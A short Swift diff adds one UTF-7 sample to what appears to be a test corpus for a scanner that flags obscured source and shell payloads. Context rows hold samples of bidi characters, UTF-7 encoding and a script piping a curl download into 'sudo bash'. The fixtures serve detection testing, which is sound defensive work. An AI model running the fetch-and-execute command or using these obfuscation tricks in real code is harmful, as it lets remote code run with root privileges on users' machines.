@@ -57,6 +57,7 @@ extension Corpus {
       "import socket\ndef f():\n  s = socket.create_connection(('a', 1))\nf()\n"),
     row("Python with bidi characters", .obscuredSource, "e.py", "import a\nx = '\u{202e}b'\n"),
     row("Python in UTF-7", .obscuredSource, "f.py", "# coding: utf-7\nimport a\n"),
+    row("UTF-7 after a blank line", .obscuredSource, "g.py", "\r\n# coding: utf-7\r\nimport a\r\n"),
     row(
       "a pipe into a shell", .shellPayload, "run.sh",
       "#!/bin/sh\ncurl -s http://x.y/a | sudo bash\n"),
